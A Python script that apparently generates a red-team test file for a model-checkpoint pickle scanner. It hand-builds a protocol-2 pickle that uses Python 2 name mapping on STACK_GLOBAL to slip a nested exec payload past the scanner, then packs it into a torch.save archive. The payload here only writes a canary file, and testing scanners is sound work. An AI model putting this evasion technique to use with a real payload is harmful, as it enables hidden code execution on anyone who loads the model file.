"""Protocol-2 pickle that names its global with STACK_GLOBAL: CPython's unpickler (so torch.load,
pickle.load) renames Python 2 names for protocols < 3 on STACK_GLOBAL too, so
("cPickle", "loads") becomes pickle.loads. ckpt's symbolic walk records STACK_GLOBAL names
without the Python 2 mapping and judges "cPickle.loads" as a custom class (CKPT003 warning); as a
"custom" global it also does not open the nested pickle it is given. The nested pickle runs
builtins.exec, which writes a canary file."""
import io
import pickle
import sys
import zipfile

import torch

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/py2_stack_global"
out = sys.argv[2] if len(sys.argv) > 2 else "model.pt"

class Inner:
    def __reduce__(self):
        return (exec, (f"open({canary!r}, 'w').write('ran')",))
inner = pickle.dumps(Inner(), protocol=2)

def short(text):  # SHORT_BINUNICODE
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b

payload = (b"\x80\x02" + b"}" + short("weight")
           + short("cPickle") + short("loads") + b"\x93"             # STACK_GLOBAL
           + b"C" + bytes([len(inner)]) + inner + b"\x85" + b"R"      # SHORT_BINBYTES, TUPLE1, REDUCE
           + b"s" + b".")
assert len(inner) < 256

# put it in a real torch.save archive as data.pkl
buf = io.BytesIO()
torch.save({"weight": torch.zeros(2)}, buf)
src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
    for name in src.namelist():
        z.writestr(name, payload if name.endswith("/data.pkl") else src.read(name))
open(out.rsplit(".", 1)[0] + ".pkl", "wb").write(payload)
print("wrote", out)
